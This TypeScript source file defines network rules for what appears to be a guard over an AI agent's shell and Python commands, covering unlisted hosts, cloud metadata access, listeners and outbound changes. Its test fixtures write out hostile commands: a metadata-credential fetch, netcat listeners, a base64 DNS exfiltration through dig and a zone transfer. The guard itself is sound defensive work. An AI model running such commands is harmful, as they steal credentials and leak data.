// Rule: a command talks to hosts that the person named, that every developer's tools talk to, or that are near; what
// changes something elsewhere waits for approval, and the cloud's own metadata is not for an agent.

import {
  allowlistAdvice,
  classifyAddress,
  type Destination,
  isDnsName,
  isLocalName,
  isMetadataName,
  namesHost,
  parseAddress,
  parseDestination,
} from '../../../core/destination.ts';
import type { Finding } from '../../../core/index.ts';
import type { Effect } from '../effects.ts';
import {
  type CommandRule,
  hit,
  type Judge,
  nameOf,
  python,
  type RuleInput,
  shell,
  strictly,
} from './rule.ts';
import { exfiltration } from './secrets.ts';

const networkChange: CommandRule = {
  id: 'network_change',
  guard: 'command',
  layer: 1,
  decision: 'approve',
  reason: 'Changes outside the local network cannot be undone, so each needs approval.',
  suggestion: 'Read from the host instead.',
  contract: 'AG-TOOL-3',
  examples: {
    hit: [
      shell('curl -X POST https://example.com/orders'),
      shell('curl -d a=1 https://example.com'),
      python('import requests\nrequests.delete("https://example.com/orders/1")'),
    ],
    miss: [
      shell('curl -s https://example.com/'),
      shell('curl -X POST http://localhost:3000/orders'),
      shell('wget https://example.com/a.tgz'),
    ],
  },
};

const hostNotListed: CommandRule = {
  id: 'host_not_listed',
  guard: 'command',
  layer: 1,
  decision: 'approve',
  reason: 'The host is neither on the egress allowlist nor a common developer host.',
  contract: 'AG-TOOL-6',
  examples: {
    hit: [
      shell('curl -s https://unheard-of.test/page.html'),
      python('import requests\nprint(requests.get("https://unheard-of.test/").text)'),
      shell('curl -s https://unheard-of.test/', { agent: { egress_allowlist: ['other.test'] } }),
      shell('ftp unheard-of.test'),
      shell('dig axfr example.com'),
      shell('ssh deploy@unheard-of.test uptime'),
      shell('git clone https://unheard-of.test/x.git'),
      shell('docker -H tcp://unheard-of.test:2375 ps'),
      shell('DOCKER_HOST=tcp://unheard-of.test:2375 docker ps'),
      shell('kubectl --server=https://unheard-of.test get pods'),
      shell('logger -n unheard-of.test started'),
      shell('git remote add backup git@unheard-of.test:x/y.git'),
      shell('dig "$(base64 -w0 notes.txt).unheard-of.test"'),
    ],
    miss: [
      shell('curl -s https://api.github.com/repos/x/y'),
      shell('curl -s http://localhost:3000/health'),
      shell('git clone https://github.com/x/y'),
      shell('git fetch origin'),
      shell('git remote add origin git@github.com:x/y.git'),
      shell('logger started'),
      shell('kubectl get pods'),
      shell('dig unheard-of.test'),
      shell('ssh 192.168.1.5 uptime'),
      shell('curl -s https://unheard-of.test/', { agent: { egress_allowlist: ['unheard-of.test'] } }),
    ],
  },
};

const metadataService: CommandRule = {
  id: 'metadata_service',
  guard: 'command',
  layer: 1,
  decision: 'block',
  unwanted: "no task needs the machine's credentials",
  reason: "A cloud metadata service returns the machine's credentials.",
  suggestion: 'Leave machine metadata to the user.',
  contract: 'AG-TOOL-6',
  examples: {
    hit: [
      shell('curl http://169.254.169.254/latest/meta-data/'),
      shell('wget -qO- http://metadata.google.internal/'),
    ],
    miss: [shell('uname -a'), shell('curl http://localhost:8080/')],
  },
};

const networkNotAllowed: CommandRule = {
  id: 'network_not_allowed',
  guard: 'command',
  layer: 1,
  decision: 'block',
  unwanted: 'under strict, the list decides',
  reason: 'Under the strict profile a command connects only to hosts on the egress allowlist.',
  suggestion: 'Fetch it with the fetch tool, which the egress allowlist governs.',
  contract: 'AG-TOOL-6',
  examples: {
    hit: [
      strictly('curl https://example.com/'),
      python('import requests\nrequests.get("https://example.com/")', { agent: { profile: 'strict' } }),
    ],
    miss: [shell('curl -s https://example.com/'), strictly('cat README.md')],
  },
};

const networkListener: CommandRule = {
  id: 'network_listener',
  guard: 'command',
  layer: 1,
  decision: 'approve',
  reason: 'Others could connect to this machine.',
  suggestion: 'Listen on 127.0.0.1.',
  examples: {
    hit: [
      shell('nc -l -p 4444'),
      shell('socat TCP-LISTEN:4444 STDOUT'),
      shell('ngrok http 8080'),
      python('import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen()'),
    ],
    miss: [
      shell('python3 -m http.server --bind 127.0.0.1 8000'),
      shell('nc -l 127.0.0.1 4444'),
      shell('npm run dev'),
      python('import socket\ns = socket.socket()\ns.bind(("127.0.0.1", 0))\ns.listen()'),
    ],
  },
};

/** The rules on the network. */
export const networkRules: readonly CommandRule[] = [
  networkChange,
  hostNotListed,
  networkListener,
  metadataService,
  networkNotAllowed,
];

/** `name:folder`: a store of rclone and its like, which its settings place anywhere. */
const isStore = /^[a-z][\w-]*:[a-z/]/i;

/** Judges what goes over the network. */
export const judgeConnection: Judge = (effect, ruleInput) => {
  const findings: Finding[] = [];
  const { span, origins } = effect;
  const host = nameOf(effect.target)
    .toLowerCase()
    .replace(/^\[(.*)\]$|\.$/, '$1');
  const where = host === '' ? 'another host' : host;
  const listed = isListed(ruleInput, host);
  if (isMetadata(host)) findings.push(hit(ruleInput, metadataService, { span, why: `it asks ${where}` }));
  if (origins?.includes('secret')) findings.push(exfiltration(effect, where, ruleInput));
  else if (sends(effect) && (!isLocal(host) || isStore.test(host))) {
    findings.push(hit(ruleInput, networkChange, { span, why: `it may change something at ${where}` }));
  } else findings.push(...hostFindings(effect, host, ruleInput));
  if (ruleInput.profile === 'strict' && !listed) {
    findings.push(hit(ruleInput, networkNotAllowed, { span, why: `it connects to ${where}` }));
  }
  return findings;
};

/** What is found about the host that a connection reads from. */
function hostFindings(effect: Effect, host: string, ruleInput: RuleInput): readonly Finding[] {
  const { span, detail = '', target } = effect;
  if (host === '') {
    const isLook = looks.has(detail);
    if (target.kind !== 'host' || (isLook && !joinsName.test(ruleInput.source.slice(...span)))) return [];
    const why = isLook
      ? 'it looks up a name that is put together of other data'
      : 'it connects to a host that is not known';
    return [hit(ruleInput, hostNotListed, { span, why })];
  }
  if (isAlias.test(detail) && !host.includes('.')) return [];
  if (maps.test(detail)) return isLocal(host) ? [] : unlistedHost(host, span, ruleInput, { usual: false });
  if (!opens.test(detail) || isMetadata(host)) return [];
  const isPlain = ruleInput.profile !== 'strict' && isPlainRead(effect, host, ruleInput);
  if (isPlain && ruleInput.isAnswered(`command connect ${host}`)) return [];
  return unlistedHost(host, span, ruleInput);
}

/** The finding about a host, where it is neither listed nor near, nor one that every developer's tools talk to. */
export function unlistedHost(
  host: string,
  span: Effect['span'],
  ruleInput: RuleInput,
  { usual: usualPasses = true } = {},
): readonly Finding[] {
  const name = host.toLowerCase();
  const isElsewhere = isDnsName(name) || parseAddress(name) !== undefined;
  if (!isElsewhere || isListed(ruleInput, name) || isLocal(name)) return [];
  if (usualPasses && isUsual(name)) return [];
  return [
    hit(ruleInput, hostNotListed, {
      span,
      why: `it connects to ${name}`,
      suggestion: `A person may ${allowlistAdvice(name)}.`,
      grant: `command connect ${name}`,
    }),
  ];
}

/** Servers of a project's own pages, and ports that lead from here to elsewhere. */
const everydayListeners = /^(?:http|forward|websocket|git)$/;

/** Judges what waits for others to connect; what only this machine can reach passes. */
export const judgeListener: Judge = ({ span, target, detail = '', program }, ruleInput) => {
  const name = nameOf(target).toLowerCase();
  const near =
    target.kind === 'host' ? name !== '' && isLoopback(name) : /^(?:127\.|localhost\b|::1\b)/.test(name);
  const open = /^(?:0\.0\.0\.0|\*|::$)/.test(name);
  const unknown = target.kind === 'host' && target.host.kind === 'unknown';
  if (near || unknown || (everydayListeners.test(detail) && !open)) return [];
  return [hit(ruleInput, networkListener, { span, why: `${program} waits for connections from others` })];
};

function isLoopback(host: string): boolean {
  const address = parseAddress(host);
  return address === undefined ? host === 'localhost' : classifyAddress(address) === 'loopback';
}

const reads: ReadonlySet<string> = new Set(['GET', 'HEAD', 'OPTIONS']);
/** Connections that only ask for a name, or whether a host answers. */
const looks: ReadonlySet<string> = new Set(['lookup', 'probe']);

/** A name that is looked up and begins with what a command or a variable gives: the servers of the rest of it read that. */
const joinsName = /(?:\)|`|\$\{?\w+\}?)"?\.[\w-]/;

/** Requests and sessions that take something from a host or bring it something, by what the tools call them. */
const opens =
  /^(?:GET|HEAD|OPTIONS|download|websocket|smb|ftp|sftp|ssh|telnet|engine|cluster|syslog|git-fetch|git-remote|database|(?:tcp|udp|sctp|ssl|openssl|socks|proxy)[\w-]*)$/;

/** Sessions whose host may be an alias of one word, which the user's own settings make a host. */
const isAlias = /^(?:ssh|sftp|git-fetch)$/;

/** Options with which a request carries more than its address, and what could fill them or the address. */
const carries =
  /[$`@]|\s-(?:H|b|u|e|A|d|F|T|K|x|U)|\s--(?!output|silent|show-error|location|fail|head|max-time|compressed|quiet)[\w-]+|\|\s*(?:curl|wget)/;
const longestPath = 80;

/**
 * Whether a request is a plain read: it asks for an address that is written out, without a query and short, and carries
 * nothing, so that it cannot bring the host what was read here. One yes to a host covers these until the session ends.
 */
function isPlainRead(
  { detail = '', span, origins = [] }: Effect,
  host: string,
  { source }: RuleInput,
): boolean {
  const text = source.slice(...span);
  if (!/^(?:GET|HEAD|download)$/.test(detail) || origins.some((origin) => origin !== 'network')) return false;
  if (carries.test(text)) return false;
  const addresses = [...text.matchAll(/[\w.-]+(?::\d+)?(?:\/[^\s'"<>|;&)]*)?/g)]
    .map(([address]) => address)
    .filter((address) =>
      address
        .toLowerCase()
        .replace(/^https?:\/\//, '')
        .startsWith(host),
    );
  const isShort = (address: string): boolean =>
    address.length <= host.length + longestPath &&
    !/[?#@%]/.test(address) &&
    !address.split(/[/._-]/).some((word) => looksRandom(word));
  return addresses.length > 0 && addresses.every(isShort);
}

/** Whether a word is more likely data than a name: long, or letters and figures mixed again and again. */
function looksRandom(word: string): boolean {
  return (
    word.length > 24 ||
    (word.length > 9 && (word.match(/\d(?=[a-z])|[a-z](?=\d)|[a-z](?=[A-Z])/g) ?? []).length > 3)
  );
}

/** What learns the layout of somebody's network. */
const maps = /^(?:scan|zone-transfer)$/;

/** Whether a request may change something where it goes. */
export function sends({ detail = '' }: Effect): boolean {
  if (/^[A-Z]+$/.test(detail)) return !reads.has(detail);
  return detail === 'upload' || detail === 'send';
}

/** Whether a host is this machine or near it. */
export function isLocal(host: string): boolean {
  if (host === '') return false;
  const address = parseAddress(host);
  if (address === undefined) return isLocalName(host);
  return ['loopback', 'private', 'link_local'].includes(classifyAddress(address));
}

function isMetadata(host: string): boolean {
  const address = parseAddress(host);
  return address === undefined ? isMetadataName(host) : classifyAddress(address) === 'metadata';
}

const parsedLists = new WeakMap<readonly string[], readonly Destination[]>();

/** INVARIANT: no lists and an empty list name nothing; one more list never names more. */
function isListed({ egressAllowlists }: RuleInput, host: string): boolean {
  if (host === '' || egressAllowlists.length === 0) return false;
  const named = parseAddress(host) ?? host;
  return egressAllowlists.every((list) => {
    const patterns = parsedLists.get(list) ?? list.map(parseDestination);
    parsedLists.set(list, patterns);
    return patterns.some((pattern) => namesHost(pattern, named));
  });
}

/** Hosts of code, packages and their documentation, and the names that are reserved for examples. */
const usual = [
  ...['github.com', 'githubusercontent.com', 'gitlab.com', 'bitbucket.org', 'codeberg.org'],
  ...['npmjs.org', 'npmjs.com', 'yarnpkg.com', 'nodejs.org', 'unpkg.com', 'jsdelivr.net', 'bun.sh'],
  ...['pypi.org', 'pythonhosted.org', 'python.org', 'anaconda.org', 'anaconda.com', 'astral.sh'],
  ...['download.pytorch.org', 'pypi.nvidia.com', 'pypi.ngc.nvidia.com', 'data.pyg.org', 'wheels.vllm.ai'],
  ...[
    'crates.io',
    'rust-lang.org',
    'rustup.rs',
    'docs.rs',
    'golang.org',
    'go.dev',
    'rubygems.org',
    'maven.org',
  ],
  ...['gradle.org', 'packagist.org', 'getcomposer.org', 'nuget.org', 'hex.pm', 'docker.com', 'docker.io'],
  ...['ghcr.io', 'quay.io', 'k8s.io', 'debian.org', 'ubuntu.com', 'fedoraproject.org', 'alpinelinux.org'],
  ...[
    'archlinux.org',
    'kernel.org',
    'gnu.org',
    'apache.org',
    'mozilla.org',
    'w3.org',
    'ietf.org',
    'rfc-editor.org',
  ],
  ...[
    'stackoverflow.com',
    'wikipedia.org',
    'brew.sh',
    'microsoft.com',
    'example.com',
    'example.org',
    'example.net',
  ],
];

function isUsual(host: string): boolean {
  return usual.some((name) => host === name || host.endsWith(`.${name}`));
}
